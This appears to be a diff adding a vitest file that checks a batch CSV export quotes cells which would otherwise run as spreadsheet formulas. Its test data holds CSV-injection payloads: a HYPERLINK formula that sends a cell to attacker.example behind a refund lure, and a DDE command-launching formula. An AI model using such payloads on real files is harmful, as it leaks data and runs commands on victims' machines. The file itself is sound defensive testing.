@@ -1,0 +1,86 @@
+// A batch's CSV export holds other people's text (the inputs, the model's answers, a service's errors): no cell of
+// it runs as a formula when the file is opened in a spreadsheet, and every cell reads back as written otherwise.
+import { describe, expect, it } from 'vitest'
+import { parseCsv } from '#shared/domain/batch-inputs'
+import type { BatchItem } from '#shared/ipc/routes/batches'
+import { questionnaire } from '../../testing/batches.ts'
+import { batchCsv } from './service.ts'
+
+const item = (index: number, input: string, more: Partial<BatchItem> = {}): BatchItem => ({
+  index,
+  input,
+  status: 'pending',
+  response: null,
+  error: null,
+  cost: null,
+  durationMs: null,
+  finishedAt: null,
+  source: null,
+  ...more,
+})
+
+const hyperlink = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for your refund")'
+
+describe('batchCsv', () => {
+  it('writes a cell that would run as a formula with a quote before it, whatever follows its first line', () => {
+    const formulas = [hyperlink, '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1+1\nsecond line']
+    const rows = parseCsv(
+      batchCsv(
+        questionnaire,
+        formulas.map((input, index) => item(index, input)),
+      ),
+    )
+    // The app's CSV reader reads a line break inside a value, "\r" too, as "\n".
+    expect(rows.slice(1).map((row) => row[1])).toEqual(
+      formulas.map((input) => `'${input.replace('\r', '\n')}`),
+    )
+  })
+
+  it('neutralises formulas in the answers, the errors and the columns of a CSV source too', () => {
+    const items = [
+      item(0, 'refund me', {
+        status: 'failed',
+        error: { code: 'upstream_error', message: '=cmd|"/c calc"!A1' },
+        source: ['T-1', 'refund me', '@risk'],
+      }),
+      item(1, 'fine', {
+        status: 'done',
+        response: {
+          model: 'sysone/judge-1',
+          answers: [{ type: 'predicate', name: 'refund', probability: 0.25 }],
+          usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
+        },
+        cost: '0.0001',
+        source: ['T-2', 'fine', 'gold'],
+      }),
+    ]
+    const rows = parseCsv(batchCsv(questionnaire, items, ['ticket', 'message', 'plan']))
+    expect(rows).toEqual([
+      [
+        'row',
+        'ticket',
+        'message',
+        'plan',
+        'status',
+        'refund',
+        'refund: probability of yes',
+        'cost_usd',
+        'error',
+      ],
+      ['1', 'T-1', 'refund me', "'@risk", 'failed', '', '', '', `'=cmd|"/c calc"!A1`],
+      // Numbers stay numbers: a row's number and a probability are not text to neutralise.
+      ['2', 'T-2', 'fine', 'gold', 'answered', 'no', '0.25', '0.0001', ''],
+    ])
+  })
+
+  it('reads back to the same cells when none would run, quotes, separators and line breaks included', () => {
+    const inputs = ['plain', 'a, b', 'say "hi"', 'two\nlines', ' padded ', 'café; ünïcode']
+    const rows = parseCsv(
+      batchCsv(
+        questionnaire,
+        inputs.map((input, index) => item(index, input)),
+      ),
+    )
+    expect(rows.slice(1).map((row) => row[1])).toEqual(inputs)
+  })
+})
